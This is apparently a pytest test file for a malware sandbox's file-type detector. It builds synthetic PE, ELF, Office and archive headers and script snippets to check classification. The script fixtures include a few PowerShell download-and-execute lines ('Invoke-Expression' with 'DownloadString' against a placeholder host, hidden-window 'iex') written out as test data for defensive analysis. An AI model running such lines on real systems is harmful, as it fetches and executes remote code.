"""What files are, by small headers made here and by real files of the machine."""

from __future__ import annotations

import io
import shutil
import struct
import sys
import tarfile
import zipfile
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lazaretto.analysis.formats.types import TYPES
from lazaretto.analysis.identify import guest_name, identify
from lazaretto.domain.sample import Category


def pe(machine: int = 0x8664, flags: int = 0x22, subsystem: int = 3, managed: bool = False) -> bytes:
    wide = machine in {0x8664, 0xAA64}
    optional = bytearray(240 if wide else 224)
    struct.pack_into("<H", optional, 0, 0x20B if wide else 0x10B)
    struct.pack_into("<H", optional, 68, subsystem)
    directories = 112 if wide else 96
    struct.pack_into("<I", optional, directories - 4, 16)
    if managed:
        struct.pack_into("<II", optional, directories + 14 * 8, 0x2000, 72)
    header = bytearray(64)
    header[:2] = b"MZ"
    struct.pack_into("<I", header, 0x3C, 64)
    return bytes(header) + b"PE\0\0" + struct.pack("<HHIIIHH", machine, 1, 0, 0, 0, len(optional), flags) + optional


def elf(machine: int = 62, kind: int = 2, wide: bool = True, big: bool = False, interpreter: bool = True) -> bytes:
    order = ">" if big else "<"
    ident = b"\x7fELF" + bytes([2 if wide else 1, 2 if big else 1, 1]) + bytes(9)
    segment = 3 if interpreter else 1
    if wide:
        head = struct.pack(f"{order}HHIQQQIHHHHHH", kind, machine, 1, 0, 64, 0, 0, 64, 56, 1, 0, 0, 0)
        return ident + head + struct.pack(f"{order}IIQQQQQQ", segment, 0, 0, 0, 0, 0, 0, 0)
    head = struct.pack(f"{order}HHIIIIIHHHHHH", kind, machine, 1, 0, 52, 0, 0, 52, 32, 1, 0, 0, 0)
    return ident + head + struct.pack(f"{order}IIIIIIII", segment, 0, 0, 0, 0, 0, 0, 0)


def zipped(*names: str, first: tuple[str, bytes] | None = None) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        if first:
            archive.writestr(first[0], first[1])
        for name in names:
            archive.writestr(name, b"x")
    return buffer.getvalue()


def ole(*names: str, clsid: bytes = bytes(16)) -> bytes:
    """A compound file of one FAT sector and one directory sector (version 3, 512 byte sectors)."""
    header = bytearray(512)
    header[:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<H", header, 30, 9)
    struct.pack_into("<I", header, 48, 1)  # directory in sector 1
    header[76:512] = struct.pack("<109I", 0, *([0xFFFFFFFF] * 108))
    fat = struct.pack("<128I", 0xFFFFFFFD, 0xFFFFFFFE, *([0xFFFFFFFF] * 126))
    directory = b""
    for place, name in enumerate(("Root Entry", *names)):
        entry = bytearray(128)
        raw = name.encode("utf-16-le") + b"\0\0"
        entry[: len(raw)] = raw
        struct.pack_into("<H", entry, 64, len(raw))
        if place == 0:
            entry[80:96] = clsid
        directory += bytes(entry)
    return bytes(header) + fat + directory.ljust(512, b"\0")


def tar() -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        archive.addfile(tarfile.TarInfo("a"))
    return buffer.getvalue()


def iso() -> bytes:
    return bytes(16 * 2048) + b"\x01CD001\x01" + bytes(2041)


MSI = bytes.fromhex("84100c0000000000c000000000000046")

HEADERS: list[tuple[str, bytes, str, str, str | None]] = [
    # name, content, type, profile, launch
    ("a.exe", pe(), "pe-exe", "windows", "exe"),
    ("a.exe", pe(0x14C, subsystem=2), "pe-exe", "windows", "exe"),
    ("a.dll", pe(flags=0x2022), "pe-dll", "windows", "dll"),
    ("a.sys", pe(subsystem=1), "pe-driver", "windows", "sys"),
    ("a.exe", pe(managed=True), "pe-dotnet", "windows", "dotnet"),
    ("a.exe", pe(0x14C, managed=True), "pe-dotnet", "windows", "dotnet"),
    ("a.exe", pe(0xAA64), "pe-foreign", "", None),
    ("a.efi", pe(subsystem=10), "pe-efi", "", None),
    ("a.exe", b"MZ" + bytes(80), "dos-exe", "", None),
    ("a", elf(), "elf-exe", "linux", "elf"),
    ("a", elf(3, wide=False), "elf-exe", "linux", "elf"),
    ("a", elf(40, wide=False), "elf-foreign", "linux", "elf-foreign"),
    ("a", elf(kind=3), "elf-exe", "linux", "elf"),
    ("a.so", elf(kind=3, interpreter=False), "elf-so", "", None),
    ("a.ko", elf(kind=1), "elf-object", "", None),
    ("a", b"\xcf\xfa\xed\xfe" + bytes(40), "mach-o", "", None),
    ("A.class", b"\xca\xfe\xba\xbe\0\0\0\x34", "java-class", "", None),
    ("a.msi", ole(clsid=MSI), "msi", "windows", "msi"),
    ("a.doc", ole("WordDocument", "Macros", "VBA"), "doc", "office", "doc"),
    ("a.xls", ole("Workbook"), "xls", "office", "xls"),
    ("a.ppt", ole("PowerPoint Document"), "ppt", "office", "ppt"),
    ("a.msg", ole("__properties_version1.0"), "msg", "", None),
    ("a.docx", ole("EncryptedPackage"), "ooxml-encrypted", "", None),
    ("a.docx", zipped("[Content_Types].xml", "word/document.xml"), "docx", "office", "doc"),
    ("a.docm", zipped("[Content_Types].xml", "word/document.xml", "word/vbaProject.bin"), "docm", "office", "doc"),
    ("a.xlsx", zipped("[Content_Types].xml", "xl/workbook.xml"), "xlsx", "office", "xls"),
    ("a.xlsm", zipped("[Content_Types].xml", "xl/workbook.xml", "xl/macrosheets/s.xml"), "xlsm", "office", "xls"),
    ("a.pptx", zipped("[Content_Types].xml", "ppt/presentation.xml"), "pptx", "office", "ppt"),
    ("a.odt", zipped(first=("mimetype", b"application/vnd.oasis.opendocument.text")), "odt", "office", "odf"),
    ("a.ods", zipped(first=("mimetype", b"application/vnd.oasis.opendocument.spreadsheet")), "ods", "office", "odf"),
    ("a.jar", zipped("META-INF/MANIFEST.MF", "A.class"), "jar", "linux", "jar"),
    ("a.apk", zipped("AndroidManifest.xml", "classes.dex"), "apk", "", None),
    ("a.whl", zipped("a-1.dist-info/WHEEL"), "wheel", "", None),
    ("a.zip", zipped("a.txt"), "zip", "", None),
    ("a.deb", b"!<arch>\ndebian-binary   ", "deb", "linux", "deb"),
    ("a.rpm", b"\xed\xab\xee\xdb\3\0", "rpm", "", None),
    ("a.7z", b"7z\xbc\xaf\x27\x1c\0\4", "7z", "", None),
    ("a.rar", b"Rar!\x1a\x07\x01\0", "rar", "", None),
    ("a.gz", b"\x1f\x8b\x08\0", "gzip", "", None),
    ("a.bz2", b"BZh91AY", "bzip2", "", None),
    ("a.xz", b"\xfd7zXZ\0\0", "xz", "", None),
    ("a.zst", b"\x28\xb5\x2f\xfd\0", "zstd", "", None),
    ("a.cab", b"MSCF\0\0\0\0", "cab", "", None),
    ("a.tar", tar(), "tar", "", None),
    ("a.iso", iso(), "iso", "", None),
    ("a.rtf", b"{\\rtf1\\ansi hello}", "rtf", "office", "rtf"),
    ("a.pdf", b"%PDF-1.7\n1 0 obj<</OpenAction 2 0 R>>", "pdf", "office", "pdf"),
    ("a.lnk", b"\x4c\0\0\0\x01\x14\x02\0" + bytes(60), "lnk", "windows", "lnk"),
    ("a.url", b"[InternetShortcut]\r\nURL=http://a.example/\r\n", "url", "", None),
    ("a.reg", b"\xff\xfe" + "Windows Registry Editor Version 5.00\r\n".encode("utf-16-le"), "reg", "windows", "reg"),
    ("a.png", b"\x89PNG\r\n\x1a\n", "png", "", None),
    ("a.eml", b"Received: from a\r\nFrom: a@b\r\nTo: c@d\r\nSubject: x\r\n\r\nhi", "eml", "", None),
    ("a.html", b"<!DOCTYPE html><html><body>hi</body></html>", "html", "office", "html"),
    ("a.bin", bytes(range(256)) * 4, "data", "", None),
    ("a.txt", b"Dear all,\nplease find the minutes below.\n", "text", "", None),
    ("a", b"", "empty", "", None),
]  # fmt: skip


@pytest.mark.parametrize(("name", "data", "kind", "profile", "launch"), HEADERS)
def test_headers(name: str, data: bytes, kind: str, profile: str, launch: str | None) -> None:
    found = identify(data, name)
    assert (found.name, found.profile or "", found.launch) == (kind, profile, launch)
    assert identify(data, "").name == kind  # the name is not needed
    assert not found.mismatch


SCRIPTS: list[tuple[str, str, str]] = [
    # content, type, type under every other name
    ("#!/bin/sh\necho hi\n", "shell", ""),
    ("#!/usr/bin/env -S bash -e\necho hi\n", "bash", ""),
    ("#!/usr/bin/python3.11\nprint(1)\n", "python", ""),
    ("#!/usr/bin/env node\nconsole.log(1)\n", "node", ""),
    ("#!/usr/bin/perl -w\nprint 1;\n", "perl", ""),
    ("<?php echo 1; ?>", "php", "a.php"),
    ("var s = new ActiveXObject('WScript.Shell');\ns.Run('calc');\n", "jscript", ""),
    ("function f(a) {\n var x = 1;\n return eval(a);\n}\nf('1');\n", "jscript", ""),
    ("const fs = require('fs');\nmodule.exports = () => { return 1; };\n", "node", ""),
    ("import fs from 'fs';\nconst x = 1;\nconsole.log(process.argv);\n", "node", ""),
    ('Dim s\nSet s = CreateObject("WScript.Shell")\ns.Run "calc"\n', "vbscript", ""),
    ("@echo off\r\nset X=1\r\nif exist %TEMP%\\a del %TEMP%\\a\r\n", "batch", ""),
    (
        "powershell -nop -c $c = New-Object Net.WebClient; Invoke-Expression $c.DownloadString('http://a.example')\n",
        "batch",
        "a.bat",
    ),
    ("powershell.exe -w hidden -c iex (New-Object Net.WebClient)\n", "batch", ""),
    (
        "function f {\n $x = Get-Date\n}\npowershell -File b.ps1\nGet-Process | Out-File $env:TEMP\\a\n",
        "powershell",
        "",
    ),
    ("param([string]$a)\n$x = Get-Process | Where-Object { $_.CPU -gt 1 }\n", "powershell", ""),
    ("$c = New-Object Net.WebClient\n$d = [System.Text.Encoding]::UTF8\nInvoke-Expression $c\n", "powershell", ""),
    ("import os\n\ndef main():\n    os.getcwd()\n\nif __name__ == '__main__':\n    main()\n", "python", ""),
    ("use strict;\nmy $x = 1;\nsub f {\n  return $x;\n}\n", "perl", ""),
    ("if [ -f /tmp/x ]; then\n  rm /tmp/x\nfi\n", "shell", ""),
    ("<html><head><HTA:APPLICATION ID='x'/><script>1</script></head></html>", "hta", ""),
    ("<job id='a'><script language='JScript'>WScript.Echo(1)</script></job>", "wsf", ""),
    ("<?xml version='1.0'?><scriptlet><script>1</script></scriptlet>", "scriptlet", ""),
    ("#@~^XAAAAA==@#@&", "script-encoded", ""),
]


@pytest.mark.parametrize(("text", "kind", "name"), SCRIPTS)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "utf-8-sig"])
def test_scripts_without_a_telling_name(text: str, kind: str, name: str, encoding: str) -> None:
    found = identify(text.encode(encoding), name or "sample")
    assert found.name == kind
    assert found.category is Category.SCRIPT


def test_the_extension_decides_only_where_the_text_says_nothing() -> None:
    plain = b"hello world\n"
    assert identify(plain, "a.bat").name == "batch"
    assert identify(plain, "a.txt").name == "text"
    assert identify(plain, "a.ps1").name == "powershell"
    assert identify(b"#!/bin/sh\nhello\n", "a.bat").name == "shell"


def test_a_name_that_lies_is_noted() -> None:
    assert identify(pe(), "invoice.pdf").mismatch == "pdf"
    assert identify(pe(), "invoice.exe").mismatch == ""
    assert identify(pe(), "0f3ac1").mismatch == ""
    assert identify(b"%PDF-1.4", "a.exe").mismatch == "exe"
    assert identify(b"const a = require('fs');\nmodule.exports = () => { 1; };", "notes.txt").mismatch == ""


def test_traits() -> None:
    assert identify(pe(subsystem=2)).traits == ("64-bit", "gui")
    assert "macros" in identify(ole("WordDocument", "Macros")).traits
    assert "active" in identify(b"%PDF-1.4\n<</JavaScript 1 0 R>>").traits
    assert identify(elf(8, wide=False, big=True)).machine == "mips"
    assert identify(elf(8, wide=False)).machine == "mipsel"
    assert identify(elf(21, big=True)).machine == "ppc64"


def test_the_name_for_the_guest_starts_the_right_program() -> None:
    exe = identify(pe())
    assert guest_name("3fa9", exe) == "3fa9.exe"
    assert guest_name("tool.scr", exe) == "tool.scr"
    assert guest_name("..\\..\\x/a.pdf", exe) == "xa.pdf.exe"
    assert guest_name("\n\t", exe) == "sample.exe"
    assert guest_name("run", identify(elf())) == "run"
    assert len(guest_name("a" * 300 + ".exe", exe)) <= 120


def test_every_type_is_whole() -> None:
    for kind in TYPES.values():
        assert (kind.profile is None) == (kind.launch is None)
        assert kind.profile in {None, "windows", "linux", "office"}
        assert kind.title


@given(st.binary(max_size=600), st.sampled_from([row[1] for row in HEADERS]), st.text(max_size=12))
def test_no_bytes_break_it(tail: bytes, head: bytes, name: str) -> None:
    for cut in (8, 40, len(head)):
        assert identify(head[:cut] + tail, name).name in TYPES


@given(st.sampled_from([row[1] for row in HEADERS if len(row[1]) > 8]), st.data())
def test_no_changed_byte_breaks_it(head: bytes, data: st.DataObject) -> None:
    broken = bytearray(head)
    for _ in range(4):
        broken[data.draw(st.integers(0, len(head) - 1))] = data.draw(st.integers(0, 255))
    assert identify(bytes(broken), "").name in TYPES


@pytest.mark.parametrize(
    ("path", "kind"),
    [(sys.executable, "elf-exe"), ("/bin/ls", "elf-exe"), ("/bin/sh", "elf-exe"), (tarfile.__file__, "python")],
)
def test_files_of_this_machine(path: str, kind: str) -> None:
    found = identify(Path(path).resolve().read_bytes(), "x")
    assert found.name == kind


def test_every_program_of_this_machine_can_be_run() -> None:
    seen = 0
    for path in sorted(Path("/usr/bin").iterdir())[:150]:
        if path.is_file():
            found = identify(path.read_bytes(), path.name)
            assert found.category in {Category.EXECUTABLE, Category.SCRIPT}, path
            seen += 1
    assert seen > 20


@pytest.mark.skipif(shutil.which("ldconfig") is None, reason="no dynamic libraries here")
def test_a_library_is_not_started() -> None:
    libraries = [p for p in Path("/usr/lib").glob("*/libz.so.1*") if p.is_file()]
    for library in libraries[:1]:
        assert identify(library.read_bytes(), library.name).launch is None
